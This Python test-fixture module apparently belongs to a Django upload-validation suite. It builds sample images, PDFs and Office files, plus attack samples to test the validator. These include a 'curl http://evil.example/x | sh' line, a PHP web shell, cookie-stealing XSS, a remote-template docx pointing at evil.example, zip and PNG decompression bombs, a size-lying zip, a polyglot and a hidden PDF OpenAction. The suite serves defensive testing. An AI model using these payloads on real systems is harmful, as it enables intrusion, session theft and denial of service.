"""Builders of evidence files in memory: real small images and documents, and every upload attack.

Everything is built on the fly (no binary fixtures in the repository); the big ones (the zip bomb)
are built streaming and cached so the suite stays fast.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from functools import cache

from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook
from PIL import ExifTags, Image, PngImagePlugin

MB = 1024 * 1024

HTML_TAIL = b"<html><body><script>alert(document.cookie)</script></body></html>"
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n<?php system($_GET['c']); ?>\n"
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>"
)


def upload(
    name: str, content: bytes, content_type: str = "application/octet-stream"
) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


# --- Images ----------------------------------------------------------------------------------------


def _noise(size: tuple[int, int], mode: str = "RGB") -> Image.Image:
    """A deterministic image with detail (so JPEG data is not trivially small)."""
    width, height = size
    image = Image.new(mode, size)
    pixels = [
        ((x * 7 + y * 13) % 256, (x * y) % 256, (x + 2 * y) % 256)
        for y in range(height)
        for x in range(width)
    ]
    if mode == "RGBA":
        image.putdata([(*p, (p[0] + 128) % 256) for p in pixels])
    else:
        image.putdata(pixels)
    return image


def jpeg(
    size: tuple[int, int] = (64, 48),
    *,
    gps: bool = False,
    orientation: int | None = None,
    comment: bytes | None = None,
    quality: int = 90,
) -> bytes:
    """A real JPEG; optionally with EXIF (GPS position, camera, orientation) and a comment."""
    exif = Image.Exif()
    if gps or orientation:
        exif[ExifTags.Base.Make] = "SafeChainCam"
        exif[ExifTags.Base.Model] = "Secret Model 9"
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    if gps:
        gps_ifd = exif.get_ifd(ExifTags.IFD.GPSInfo)
        gps_ifd[ExifTags.GPS.GPSLatitudeRef] = "N"
        gps_ifd[ExifTags.GPS.GPSLatitude] = (36.0, 5.0, 17.0)
        gps_ifd[ExifTags.GPS.GPSLongitudeRef] = "E"
        gps_ifd[ExifTags.GPS.GPSLongitude] = (111.0, 31.0, 8.0)
    out = io.BytesIO()
    params: dict[str, object] = {"quality": quality}
    if len(exif):
        params["exif"] = exif.tobytes()
    if comment:
        params["comment"] = comment
    _noise(size).save(out, "JPEG", **params)
    return out.getvalue()


def png(
    size: tuple[int, int] = (40, 30), *, mode: str = "RGB", text: dict[str, str] | None = None
) -> bytes:
    info = PngImagePlugin.PngInfo()
    for key, value in (text or {}).items():
        info.add_text(key, value)
    out = io.BytesIO()
    _noise(size, "RGBA" if mode == "RGBA" else "RGB").convert(mode).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def webp(size: tuple[int, int] = (40, 30)) -> bytes:
    out = io.BytesIO()
    _noise(size).save(out, "WEBP", quality=90)
    return out.getvalue()


def gif(size: tuple[int, int] = (10, 10)) -> bytes:
    out = io.BytesIO()
    Image.new("P", size).save(out, "GIF")
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header_only(width: int, height: int) -> bytes:
    """A tiny PNG claiming ``width`` × ``height`` px (a decompression bomb): a valid header, one
    small IDAT and IEND — a few hundred bytes, never decodable to the claimed size cheaply."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def truncated_jpeg() -> bytes:
    data = jpeg((256, 256), quality=95)
    return data[: len(data) // 2]


# --- PDF -------------------------------------------------------------------------------------------


def pdf_stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def pdf(
    *extra_objects: bytes,
    catalog: bytes = b"",
    trailer: bytes = b"",
    tail: bytes = b"",
) -> bytes:
    """A minimal valid one-page PDF 1.7 (objects 1–4), with ``extra_objects`` numbered from 5."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        pdf_stream(b"BT /F1 12 Tf 72 100 Td (Hazard report) Tj ET"),
        *extra_objects,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (len(objects) + 1, trailer)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out) + tail


def pdf_with_object_stream(objects: bytes) -> bytes:
    """A PDF whose object 6 is compressed inside an object stream (object 5), where a plain-text
    scan cannot see it; the catalog's /OpenAction points at it."""
    header = b"6 0 "
    body = header + objects
    return pdf(
        pdf_stream(
            zlib.compress(body), b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode " % len(header)
        ),
        catalog=b"/OpenAction 6 0 R ",
    )


# --- docx / xlsx -----------------------------------------------------------------------------------

CONTENT_TYPES_DOCX = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
CONTENT_TYPES_DOCM = CONTENT_TYPES_DOCX.replace(
    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    b"application/vnd.ms-word.document.macroEnabled.main+xml",
)
ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Remediation plan</w:t></w:r></w:p></w:body></w:document>"
)
REMOTE_TEMPLATE_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    b"</Relationships>"
)
HYPERLINK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/hyperlink" Target="https://www.mem.gov.cn/" TargetMode="External"/>'
    b"</Relationships>"
)


def docx(
    extra: dict[str, bytes] | None = None,
    *,
    content_types: bytes = CONTENT_TYPES_DOCX,
    document: bytes = DOCUMENT,
) -> bytes:
    """A minimal valid Word document, plus ``extra`` members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("word/document.xml", document)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def xlsx() -> bytes:
    """A real workbook written by openpyxl."""
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["隐患编号", "整改期限"])
    sheet.append(["LF-2025-0001", "2025-06-30"])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


@cache
def zip_bomb_docx() -> bytes:
    """A docx with a 200 MB member of zeros (about 200 KB compressed), written streaming."""
    out = io.BytesIO(docx())
    zeros = bytes(MB)
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/media/image1.bin", "w", force_zip64=True) as member,
    ):
        for _ in range(200):
            member.write(zeros)
    return out.getvalue()


def lying_size_docx() -> bytes:
    """A docx whose headers claim a 2 MB member is 1,000 bytes (readers that trust the data get it
    all; a checker that trusts the header would be fooled)."""
    text = bytes(
        97 + b % 26
        for b in random.Random(4).randbytes(2 * MB)  # noqa: S311 - test data
    )  # ~ 1.6:1, under the ratio
    data = docx({"word/media/text.bin": text})
    true_size = struct.pack("<I", len(text))
    assert data.count(true_size) == 2  # the local header and the central directory
    return data.replace(true_size, struct.pack("<I", 1000))


def docx_many_members(count: int) -> bytes:
    return docx({f"word/media/p{i}.xml": b"<p/>" for i in range(count)})


def zip_with_appended(prefix: bytes) -> bytes:
    """``prefix`` followed by a small zip holding a script (the shape of a GIFAR/JPEG-JAR polyglot)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\nMain-Class: Evil\n")
        archive.writestr("Evil.class", SCRIPT * 40)
    return prefix + out.getvalue()


# --- Multipart bodies ------------------------------------------------------------------------------


class MultipartStream:
    """A ``multipart/form-data`` body produced on the fly, read as a WSGI input: the ``fields``, then
    one file field of ``size`` bytes (a JPEG marker and zeros) that is never held in memory.
    ``read_bytes`` counts what the server actually read."""

    boundary = "----SafeChainBoundary7MA4YWxkTrZu0gW"

    def __init__(self, *, name: str, size: int, fields: dict[str, str] | None = None) -> None:
        head = "".join(
            f'--{self.boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'
            for key, value in (fields or {}).items()
        )
        head += (
            f'--{self.boundary}\r\nContent-Disposition: form-data; name="file"; '
            f'filename="{name}"\r\nContent-Type: image/jpeg\r\n\r\n'
        )
        tail = f"\r\n--{self.boundary}--\r\n".encode()
        # (length, bytes or None for zeros) of each consecutive part of the body
        self._parts = [
            (len(head.encode()), head.encode()),
            (4, b"\xff\xd8\xff\xe0"),
            (size - 4, None),
            (len(tail), tail),
        ]
        self.length = sum(length for length, _data in self._parts)
        self.read_bytes = 0
        self._position = 0

    @property
    def content_type(self) -> str:
        return f"multipart/form-data; boundary={self.boundary}"

    def _slice(self, start: int, stop: int) -> bytes:
        out = bytearray()
        offset = 0
        for length, data in self._parts:
            low, high = max(start, offset), min(stop, offset + length)
            if low < high:
                out += data[low - offset : high - offset] if data is not None else bytes(high - low)
            offset += length
        return bytes(out)

    def _take(self, data: bytes) -> bytes:
        self._position += len(data)
        self.read_bytes += len(data)
        return data

    def read(self, size: int = -1) -> bytes:
        end = self.length if size is None or size < 0 else self._position + size
        return self._take(self._slice(self._position, min(end, self.length)))

    def readline(self, size: int = -1) -> bytes:
        """Django drains an abandoned body line by line (``exhaust`` iterates the request)."""
        end = self.length if size is None or size < 0 else min(self._position + size, self.length)
        start = self._position
        while start < end:
            block = self._slice(start, min(start + MB, end))
            newline = block.find(b"\n")
            if newline >= 0:
                return self._take(self._slice(self._position, start + newline + 1))
            start += len(block)
        return self._take(self._slice(self._position, end))
